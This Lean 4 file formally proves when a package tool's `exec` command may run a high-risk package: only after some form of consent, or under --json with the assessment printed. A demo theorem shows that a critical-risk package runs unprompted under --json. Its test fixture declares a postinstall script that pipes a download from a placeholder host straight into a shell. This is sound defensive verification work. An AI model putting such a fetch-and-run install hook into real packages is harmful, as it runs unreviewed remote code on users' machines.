import Oath.Cli.Exec

/-! Whether anybody agreed before `exec` runs a package of high risk. -/

namespace Oath.Cli
open Analyze Contracts Registry Resolve Unix

section Consent
variable {Text : Type}

/-- What lets a package of high risk run. -/
inductive ExecConsent (env : ExecEnvironment Text) (options : ExecOptions)
    (approval : ExecApproval) (s : ExecSession) (new : List ExecEvent) : Prop
  | yes (h : options.yes)
  | remembered {file : ApprovalFile} (hfile : s.approvalFile = some (.ok file))
      (h : approval ∈ file.approvals)
  | allowAll (h : env.allowAll)
  | answered {answer : String} (h : isYes answer) (hasked : .asked answer ∈ new)

/-! ## Following the events of a run -/

def RunsPackage (new : List ExecEvent) : Prop := ∃ binary args, .ran binary args ∈ new

/-- What the command adds to the events passes the gate if it runs the package. -/
def Gated {α : Type} (gate : List ExecEvent → Prop) (x : ExecCommand α) (s : ExecSession) :
    Prop :=
  ∃ new, (x s).state.events = s.events ++ new ∧ (RunsPackage new → gate new)

variable {α β : Type} {gate : List ExecEvent → Prop} {x : ExecCommand α}
  {f : α → ExecCommand β} {s : ExecSession}

theorem not_runsPackage_nil : ¬RunsPackage [] := by
  rintro ⟨_, _, hmem⟩
  cases hmem

theorem gated_silent (h : (x s).state.events = s.events) : Gated gate x s :=
  ⟨[], by simp [h], fun hruns => absurd hruns not_runsPackage_nil⟩

/-- A first step that does not run the package hands on what it has added. -/
theorem gated_bind {first : List ExecEvent} (hevents : (x s).state.events = s.events ++ first)
    (hquiet : ¬RunsPackage first)
    (hrest : ∀ a s₁, x s = .ok a s₁ → Gated (fun later => gate (first ++ later)) (f a) s₁) :
    Gated gate (x >>= f) s := by
  show Gated gate (EStateM.bind x f) s
  unfold Gated EStateM.bind
  cases h : x s with
  | error e s₁ =>
    rw [h] at hevents
    exact ⟨first, hevents, fun hruns => absurd hruns hquiet⟩
  | ok a s₁ =>
    rw [h] at hevents
    obtain ⟨later, hlater, hgate⟩ := hrest a s₁ h
    refine ⟨first ++ later, ?_, fun hruns => hgate ?_⟩
    · show (f a s₁).state.events = _
      rw [hlater, ← List.append_assoc]
      exact congrArg (· ++ later) hevents
    · obtain ⟨binary, args, hmem⟩ := hruns
      rcases List.mem_append.mp hmem with hfirst | hmem
      · exact absurd ⟨binary, args, hfirst⟩ hquiet
      · exact ⟨binary, args, hmem⟩

theorem gated_bind_silent (hevents : (x s).state.events = s.events)
    (hrest : ∀ a s₁, x s = .ok a s₁ → Gated gate (f a) s₁) : Gated gate (x >>= f) s :=
  gated_bind (by simp [hevents]) not_runsPackage_nil hrest

theorem Gated.mono {weaker : List ExecEvent → Prop} (h : Gated gate x s)
    (himp : ∀ new, gate new → weaker new) : Gated weaker x s := by
  obtain ⟨new, hevents, hgate⟩ := h
  exact ⟨new, hevents, fun hruns => himp new (hgate hruns)⟩

theorem gated_of_gate (hevents : ∃ new, (x s).state.events = s.events ++ new)
    (hgate : ∀ new, gate new) : Gated gate x s := by
  obtain ⟨new, hnew⟩ := hevents
  exact ⟨new, hnew, fun _ => hgate new⟩

theorem orFail_state (y : Except String α) : ((orFail y : ExecCommand α) s).state = s := by
  cases y <;> rfl

theorem orFail_ok {y : Except String α} {a : α} {s' : ExecSession}
    (h : (orFail y : ExecCommand α) s = .ok a s') : y = .ok a ∧ s' = s := by
  cases y with
  | error message => cases h
  | ok b =>
    obtain ⟨rfl, rfl⟩ := EStateM.Result.ok.inj h
    exact ⟨rfl, rfl⟩

theorem silent_pure (a : α) : ((pure a : ExecCommand α) s).state.events = s.events := rfl

/-! ## The steps -/

section Steps
variable {env : ExecEnvironment Text} {options : ExecOptions} {sandbox : ExecSandboxDecision}
  {inspection : Inspection} {approval : ExecApproval}

/-- Nothing is lost from the events. -/
abbrev Extends (s s' : ExecSession) : Prop := ∃ new, s'.events = s.events ++ new

instance : Std.Refl Extends := ⟨fun _ => ⟨[], by simp⟩⟩

instance : IsTrans ExecSession Extends where
  trans := by
    rintro s₁ s₂ s₃ ⟨first, hfirst⟩ ⟨later, hlater⟩
    exact ⟨first ++ later, by rw [hlater, hfirst, List.append_assoc]⟩

theorem extends_of_silent (h : ∀ s, (x s).state.events = s.events) : EStateM.Moves Extends x :=
  fun s => ⟨[], by simp [h]⟩

theorem extends_orFail (y : Except String α) : EStateM.Moves Extends (orFail y : ExecCommand α) :=
  extends_of_silent fun s => by rw [orFail_state]

theorem extends_report (event : ExecEvent) : EStateM.Moves Extends (report event) :=
  fun _ => ⟨[event], rfl⟩

theorem load_state : (load s).state = s := by
  unfold load
  split <;> rfl

theorem load_bind_state {f : ApprovalFile → α} (s : ExecSession) :
    ((load >>= fun file => (pure (f file) : ExecCommand α)) s).state = s := by
  show (EStateM.bind load _ s).state = s
  unfold EStateM.bind load
  cases s.approvalFile with
  | none => rfl
  | some file => cases file <;> rfl

theorem extends_remember : EStateM.Moves Extends (remember env approval) := by
  refine EStateM.moves_bind (extends_orFail _) fun _ => ?_
  refine EStateM.moves_bind (extends_of_silent fun s => by rw [load_state]) fun file => ?_
  refine EStateM.moves_bind (extends_orFail _) fun _ => ?_
  exact EStateM.moves_bind (fun _ => ⟨[], (List.append_nil _).symm⟩) fun _ => extends_report _

theorem findBinary_state : (findBinary env inspection s).state = s := by
  unfold findBinary
  generalize Option.or _ _ = path
  cases path <;> rfl

theorem extends_runBinary : EStateM.Moves Extends (runBinary env options inspection) := by
  refine EStateM.moves_bind (extends_of_silent fun s => by rw [findBinary_state]) fun binary => ?_
  refine EStateM.moves_bind (extends_report _) fun _ => ?_
  exact EStateM.moves_bind (extends_orFail _) fun code => EStateM.moves_throw _

theorem extends_rememberAndRun :
    EStateM.Moves Extends (rememberAndRun env options sandbox inspection) := by
  refine EStateM.moves_bind ?_ fun _ => extends_runBinary
  unfold rememberChoice
  split_ifs
  · exact extends_remember
  · exact EStateM.moves_pure ()

/-- Looking an approval up changes nothing; what is found stands in the file. -/
theorem previouslyApproved_ok {approved : Bool} {s' : ExecSession}
    (h : previouslyApproved approval s = .ok approved s') :
    s'.approvalFile = s.approvalFile ∧
      (approved → ∃ file, s.approvalFile = some (.ok file) ∧ approval ∈ file.approvals) := by
  unfold previouslyApproved at h
  split_ifs at h
  · obtain ⟨rfl, rfl⟩ := EStateM.Result.ok.inj h
    exact ⟨rfl, fun hfalse => by cases hfalse⟩
  · obtain ⟨_, s₁, hreport, h1⟩ := EStateM.bind_eq_ok.mp h
    obtain ⟨-, rfl⟩ := EStateM.Result.ok.inj hreport
    obtain ⟨file, s₂, hload, h2⟩ := EStateM.bind_eq_ok.mp h1
    obtain ⟨rfl, rfl⟩ := EStateM.Result.ok.inj h2
    unfold load at hload
    split at hload
    · obtain ⟨rfl, rfl⟩ := EStateM.Result.ok.inj hload
      exact ⟨rfl, fun hmem => by simp at hmem⟩
    · next hfile =>
      obtain ⟨rfl, rfl⟩ := EStateM.Result.ok.inj hload
      exact ⟨rfl, fun hmem => ⟨_, hfile, by simpa using hmem⟩⟩
    · cases hload

/-- The steps after a report leave the events as they are. -/
theorem report_bind_events {event : ExecEvent} {f : Unit → ExecCommand α}
    (hf : ∀ s, (f () s).state.events = s.events) :
    ((report event >>= f) s).state.events = s.events ++ [event] := by
  show (f () { s with events := s.events ++ [event] }).state.events = _
  rw [hf]

theorem previouslyApproved_events (approval : ExecApproval) (s : ExecSession) :
    ∃ first, (previouslyApproved approval s).state.events = s.events ++ first ∧
      ¬RunsPackage first := by
  unfold previouslyApproved
  split_ifs
  · exact ⟨[], by simp [silent_pure], not_runsPackage_nil⟩
  · refine ⟨[.lookedUp approval], report_bind_events fun s => by rw [load_bind_state], ?_⟩
    rintro ⟨_, _, hmem⟩
    simp at hmem

variable (env options) in
/-- With `--json` the whole assessment is printed. -/
theorem showAssessment_events (assessment : ExecAssessment) (approved : Bool) (s : ExecSession) :
    ∃ first, (showAssessment env options assessment approved s).state.events =
      s.events ++ first ∧ ¬RunsPackage first ∧ ∀ s',
        showAssessment env options assessment approved s = .ok () s' → s'.approvalFile =
          s.approvalFile ∧ (options.json → .printed assessment approved ∈ first) := by
  unfold showAssessment
  split_ifs with hjson
  · cases hsign : (if options.schemaVersion = 2 then .ok () else env.signAssessment assessment :
        Except String Unit) with
    | error message =>
      refine ⟨[], ?_, not_runsPackage_nil, fun s' hok => ?_⟩
      · unfold printAssessment
        rw [hsign]
        exact (List.append_nil _).symm
      · unfold printAssessment at hok
        rw [hsign] at hok
        cases hok
    | ok _ =>
      refine ⟨[.printed assessment approved], ?_, ?_, fun s' hok => ?_⟩
      · unfold printAssessment
        rw [hsign]
        rfl
      · rintro ⟨_, _, hmem⟩
        simp at hmem
      · unfold printAssessment at hok
        rw [hsign] at hok
        obtain ⟨-, rfl⟩ := EStateM.Result.ok.inj hok
        exact ⟨rfl, fun _ => List.mem_singleton_self _⟩
  · refine ⟨[.card assessment], rfl, ?_, fun s' hok => ?_⟩
    · rintro ⟨_, _, hmem⟩
      simp at hmem
    · obtain ⟨-, rfl⟩ := EStateM.Result.ok.inj hok
      exact ⟨rfl, fun h => absurd h hjson⟩

variable (env options inspection) in
theorem confirm_events (approved : Bool) (s : ExecSession) :
    ∃ first, (confirm env options inspection approved s).state.events = s.events ++ first ∧
      ¬RunsPackage first ∧ ∀ s', confirm env options inspection approved s = .ok () s' →
        options.json ∨ needsPrompt env options inspection approved = false ∨
          ∃ answer, isYes answer ∧ .asked answer ∈ first := by
  unfold confirm
  split_ifs with hprompts
  · refine ⟨[.asked (s.stdin.headD "")], ?_, ?_, fun s' hok => Or.inr (Or.inr ?_)⟩
    · unfold promptRun
      show (EStateM.bind readAnswer _ s).state.events = _
      unfold EStateM.bind readAnswer
      dsimp only
      split_ifs <;> rfl
    · rintro ⟨_, _, hmem⟩
      simp at hmem
    · obtain ⟨answer, s₁, hanswer, hyes⟩ := EStateM.bind_eq_ok.mp hok
      obtain ⟨rfl, rfl⟩ := EStateM.Result.ok.inj hanswer
      split_ifs at hyes with hyes'
      · exact ⟨_, hyes', List.mem_singleton_self _⟩
      · cases hyes
  · refine ⟨[], (List.append_nil _).symm, not_runsPackage_nil, fun s' _ => ?_⟩
    rw [Bool.and_eq_true, not_and_or] at hprompts
    rcases hprompts with hjson | hneeds
    · exact Or.inl (by simpa using hjson)
    · exact Or.inr (Or.inl (by simpa using hneeds))

/-! ## A whole run -/

/-- With `--json` nobody is asked and the assessment says why; else somebody has agreed. -/
def SeriousGate (env : ExecEnvironment Text) (options : ExecOptions)
    (sandbox : ExecSandboxDecision) (inspection : Inspection) (s : ExecSession)
    (new : List ExecEvent) : Prop :=
  isSerious inspection.report.overallRisk →
    (options.json ∧ ∃ approved, .printed (assess env options sandbox inspection) approved ∈ new) ∨
      ExecConsent env options (approvalOf env options sandbox inspection) s new

theorem decideAndRun_gated
    (hreasons : isSerious inspection.report.overallRisk → inspection.report.verdictReasons ≠ []) :
    Gated (SeriousGate env options sandbox inspection s)
      (decideAndRun env options sandbox inspection) s := by
  refine gated_bind_silent (by rw [orFail_state]) fun _ s₁ hhome => ?_
  obtain ⟨-, rfl⟩ := orFail_ok hhome
  obtain ⟨first, hfirst, hquiet⟩ :=
    previouslyApproved_events (approvalOf env options sandbox inspection) s₁
  refine gated_bind hfirst hquiet fun approved s₂ happroved => ?_
  obtain ⟨hfile, hremembered⟩ := previouslyApproved_ok happroved
  obtain ⟨shown, hshown, hshownQuiet, hprinted⟩ :=
    showAssessment_events env options (assess env options sandbox inspection) approved s₂
  refine gated_bind hshown hshownQuiet fun _ s₃ hshow => ?_
  obtain ⟨-, hjsonPrinted⟩ := hprinted s₃ hshow
  refine gated_bind_silent ?_ fun _ s₄ hgrade => ?_
  · unfold checkGrade
    split_ifs <;> rfl
  · split_ifs
    · exact gated_silent rfl
    · obtain ⟨asked, hasked, haskedQuiet, hconfirmed⟩ :=
        confirm_events env options inspection approved s₄
      refine gated_bind hasked haskedQuiet fun _ s₅ hconfirm => ?_
      refine gated_of_gate (extends_rememberAndRun s₅) fun new hserious => ?_
      rcases hconfirmed s₅ hconfirm with hjson | hneeds | ⟨answer, hyes, hmem⟩
      · refine Or.inl ⟨hjson, approved, ?_⟩
        exact List.mem_append_right _ (List.mem_append_left _ (hjsonPrinted hjson))
      · right
        have hfindings : (seriousFindings inspection.report).isEmpty = false := by
          unfold seriousFindings
          rw [if_pos hserious]
          simpa using hreasons hserious
        unfold needsPrompt at hneeds
        rw [hfindings, Bool.not_false, Bool.true_and] at hneeds
        simp only [Bool.and_eq_false_iff, Bool.not_eq_false'] at hneeds
        rcases hneeds with (hyes | happrovedTrue) | hall
        · exact .yes hyes
        · obtain ⟨file, hstored, hmem⟩ := hremembered happrovedTrue
          exact .remembered hstored hmem
        · exact .allowAll hall
      · right
        refine .answered hyes ?_
        exact List.mem_append_right _ (List.mem_append_right _ (List.mem_append_left _ hmem))

/-- The report of an inspection is one of the scanner. -/
theorem inspectPackage_report {name version : String} {info : DistInfo} {full : Option Value}
    (h : inspectPackage env name version info full = .ok inspection) :
    ∃ fs, scan env.parseJson env.analysis fs [] name version = .ok inspection.report := by
  obtain ⟨execPath, -, h1⟩ := Except.bind_eq_ok.mp h
  obtain ⟨plan, -, h2⟩ := Except.bind_eq_ok.mp h1
  obtain ⟨graph, -, h3⟩ := Except.bind_eq_ok.mp h2
  obtain ⟨_, -, h4⟩ := Except.bind_eq_ok.mp h3
  obtain ⟨_, -, h5⟩ := Except.bind_eq_ok.mp h4
  obtain ⟨report, hreport, h6⟩ := Except.bind_eq_ok.mp h5
  obtain ⟨pkg, -, h7⟩ := Except.bind_eq_ok.mp h6
  obtain rfl := Except.ok.inj h7
  exact ⟨_, hreport⟩

theorem inspect_ok {s' : ExecSession} (h : inspect env options sandbox s = .ok inspection s') :
    s' = s ∧ ∃ version info full, inspectPackage env (parsePackageSpec options.package).1 version
      info full = .ok inspection := by
  obtain ⟨resolved, s₁, hresolved, h1⟩ := EStateM.bind_eq_ok.mp h
  obtain ⟨-, rfl⟩ := orFail_ok hresolved
  obtain ⟨_, s₂, hage, h2⟩ := EStateM.bind_eq_ok.mp h1
  unfold ageGate at hage
  split_ifs at hage
  · obtain ⟨_, _, -, hexit⟩ := EStateM.bind_eq_ok.mp hage
    cases hexit
  · obtain ⟨-, rfl⟩ := EStateM.Result.ok.inj hage
    obtain ⟨hinspect, rfl⟩ := orFail_ok h2
    exact ⟨rfl, _, _, _, hinspect⟩

variable (env options) in
theorem refuse_events (assessment : ExecAssessment) (s : ExecSession) :
    ∃ first, (refuse env options assessment s).state.events = s.events ++ first ∧
      ¬RunsPackage first := by
  unfold refuse
  split_ifs
  · unfold printAssessment
    cases (if options.schemaVersion = 2 then .ok () else env.signAssessment assessment :
      Except String Unit) with
    | error message => exact ⟨[], (List.append_nil _).symm, not_runsPackage_nil⟩
    | ok _ =>
      refine ⟨[.refused assessment], rfl, ?_⟩
      rintro ⟨_, _, hmem⟩
      simp at hmem
  · exact ⟨[], (List.append_nil _).symm, not_runsPackage_nil⟩

variable (env options sandbox) in
theorem ageGate_gated (name version : String) (info : DistInfo) (full : Option Value)
    (s : ExecSession) :
    Gated (fun _ => False) (ageGate env options sandbox name version info full) s := by
  unfold ageGate
  split_ifs
  · obtain ⟨first, hfirst, hquiet⟩ := refuse_events env options
      (refusedAssessment env name version info full sandbox) s
    exact gated_bind hfirst hquiet fun _ s₁ _ => gated_silent rfl
  · exact gated_silent rfl

variable (env options sandbox) in
theorem inspect_gated (s : ExecSession) :
    Gated (fun _ => False) (inspect env options sandbox) s := by
  refine gated_bind_silent (by rw [orFail_state]) fun resolved s₁ _ => ?_
  obtain ⟨first, hfirst, hquiet⟩ := ageGate_gated env options sandbox
    (parsePackageSpec options.package).1 resolved.1 resolved.2
    (env.fullPackument (parsePackageSpec options.package).1) s₁
  exact gated_bind hfirst hquiet fun _ s₂ _ => gated_silent (by rw [orFail_state])

theorem runLocalBin_gated (s : ExecSession) :
    Gated (fun _ => False) (runLocalBin env options) s := by
  have hquiet : ∀ binary args, ¬RunsPackage [.ranLocal binary args] := by
    rintro binary args ⟨_, _, hmem⟩
    simp at hmem
  refine gated_bind rfl (hquiet _ _) fun _ s₁ _ => ?_
  exact gated_bind_silent (by rw [orFail_state]) fun _ s₂ _ => gated_silent rfl

theorem inspectAndRun_gated (s : ExecSession) :
    Gated (fun new => ∃ inspection, inspect env options sandbox s = .ok inspection s ∧
      SeriousGate env options sandbox inspection s new) (inspectAndRun env options sandbox) s := by
  cases hinspect : inspect env options sandbox s with
  | error stop s₁ =>
    obtain ⟨first, hfirst, hquiet⟩ := inspect_gated env options sandbox s
    refine gated_bind hfirst hquiet fun inspection s₂ hok => ?_
    cases hinspect.symm.trans hok
  | ok inspection s₁ =>
    obtain ⟨rfl, version, info, full, hpackage⟩ := inspect_ok hinspect
    obtain ⟨fs, hscan⟩ := inspectPackage_report hpackage
    refine gated_bind_silent (by rw [hinspect]; rfl) fun inspection' s₂ hok => ?_
    obtain ⟨rfl, rfl⟩ := EStateM.Result.ok.inj (hinspect.symm.trans hok)
    refine (decideAndRun_gated fun hserious => scan_reasons hscan ?_).mono
      fun new hgate => ⟨inspection, rfl, hgate⟩
    intro hinfo
    rw [hinfo] at hserious
    cases hserious

variable (env options s) in
/-- Whenever `exec` runs a package of high risk, it was called with `--json` and has printed
the assessment, or somebody has agreed. -/
theorem exec_consented :
    ∃ new, (cmdExec env options s).state.events = s.events ++ new ∧
      (RunsPackage new → ∃ sandbox inspection, resolveExecSandbox env options = .ok sandbox ∧
        inspect env options sandbox s = .ok inspection s ∧
          SeriousGate env options sandbox inspection s new) := by
  refine gated_bind_silent (by rw [orFail_state]) fun _ s₁ hschema => ?_
  obtain ⟨-, rfl⟩ := orFail_ok hschema
  refine gated_bind_silent (by rw [orFail_state]) fun sandbox s₂ hsandbox => ?_
  obtain ⟨hresolved, rfl⟩ := orFail_ok hsandbox
  split_ifs
  · exact (runLocalBin_gated s₂).mono fun _ => False.elim
  · refine (inspectAndRun_gated s₂).mono fun new hgate => ?_
    obtain ⟨inspection, hinspect, hserious⟩ := hgate
    exact ⟨sandbox, inspection, hresolved, hinspect, hserious⟩

end Steps

end Consent

/-! ## A package that downloads a program when it is installed -/

def demoBackend : BackendCapabilities :=
  ⟨"native", false, false, false, false, false, some "not supported"⟩

def demoPackageFiles : FileSystem :=
  (FileSystem.mk Table.empty).set [] (.directory 0o755)
    |>.set [packageJson] (.file 0o644 (asBytes "demo"))
    |>.set [asBytes "index.js"] (.file 0o644 [])

def demoPackageJson : Value :=
  .object [("scripts", .object [("postinstall", .string "curl https://demo.example | sh")])]

def execNode (integrity : Option String) : PlacementNode :=
  { demoNode with
    location := "node_modules/demo", installName := "demo", name := "demo", version := "1.0.0"
    resolved := some "https://registry.npmjs.org/demo/-/demo-1.0.0.tgz", integrity := integrity }

/-- The registry knows one release, and the plan has it with this integrity. -/
def demoExecEnvironment (integrity : Option String) : ExecEnvironment (Except String Value) where
  toEnvironment := demoEnvironment [execNode integrity]
  home := some "/home/demo"
  execDir := .ok "/tmp/exec"
  localBin := fun _ => false
  runLocal := .ok 0
  agentMode := false
  allowAll := false
  nodePermissions := false
  native := demoBackend
  resolveVersion := fun _ _ => .ok ("1.0.0",
    ⟨"https://registry.npmjs.org/demo/-/demo-1.0.0.tgz", some "sha512-one"⟩)
  fullPackument := fun _ => none
  isoAgeSecs := fun _ => none
  parseDurationSecs := fun _ => none
  packageFiles := fun _ _ => demoPackageFiles
  parseJson := fun _ => .ok demoPackageJson
  analysis := ⟨fun _ _ => {}, fun _ _ => [], fun _ _ => [], fun _ _ => []⟩
  safetyScore := fun _ _ => ⟨20, 'F'⟩
  dirSize := fun _ => 4
  signAssessment := fun _ => .ok ()
  writeApprovals := .ok ()
  runNode := fun _ => .ok 0

def jsonOptions : ExecOptions :=
  ⟨"demo", [], false, none, true, 3, none, false, false, .off, false, false, false⟩

def demoSession : ExecSession := ⟨none, [], []⟩

def noSandbox : ExecSandboxDecision := ⟨.off, .off, false⟩

/-- With `--json` a package of critical risk runs and nobody has agreed. -/
theorem json_exec_asks_nobody : ∃ inspection new,
    inspect (demoExecEnvironment (some "sha512-one")) jsonOptions noSandbox demoSession =
      .ok inspection demoSession ∧ isSerious inspection.report.overallRisk ∧
    (cmdExec (demoExecEnvironment (some "sha512-one")) jsonOptions demoSession).state.events =
      new ∧ RunsPackage new ∧
    ¬ExecConsent (demoExecEnvironment (some "sha512-one")) jsonOptions
      (approvalOf (demoExecEnvironment (some "sha512-one")) jsonOptions noSandbox inspection)
      demoSession new := by
  have hinspect : (match inspect (demoExecEnvironment (some "sha512-one")) jsonOptions noSandbox
      demoSession with
    | .ok inspection _ => isSerious inspection.report.overallRisk
    | .error _ _ => false) = true := by decide +kernel
  have hevents : (cmdExec (demoExecEnvironment (some "sha512-one")) jsonOptions
      demoSession).state.events.any (fun event => event =
        .ran "/tmp/exec/node_modules/demo/index.js" []) = true ∧
      (cmdExec (demoExecEnvironment (some "sha512-one")) jsonOptions
        demoSession).state.events.all (fun event => match event with
          | .asked _ => false
          | _ => true) = true := by decide +kernel
  split at hinspect
  · next inspection s' hok =>
    obtain ⟨rfl, -⟩ := inspect_ok hok
    obtain ⟨hran, hsilent⟩ := hevents
    obtain ⟨event, hmem, heq⟩ := List.any_eq_true.mp hran
    refine ⟨inspection, _, hok, hinspect, rfl, ⟨_, [], of_decide_eq_true heq ▸ hmem⟩, fun h => ?_⟩
    cases h with
    | yes hyes => cases hyes
    | remembered hfile _ => cases hfile
    | allowAll hall => cases hall
    | answered _ hasked => simpa using List.all_eq_true.mp hsilent _ hasked
  · cases hinspect

end Oath.Cli
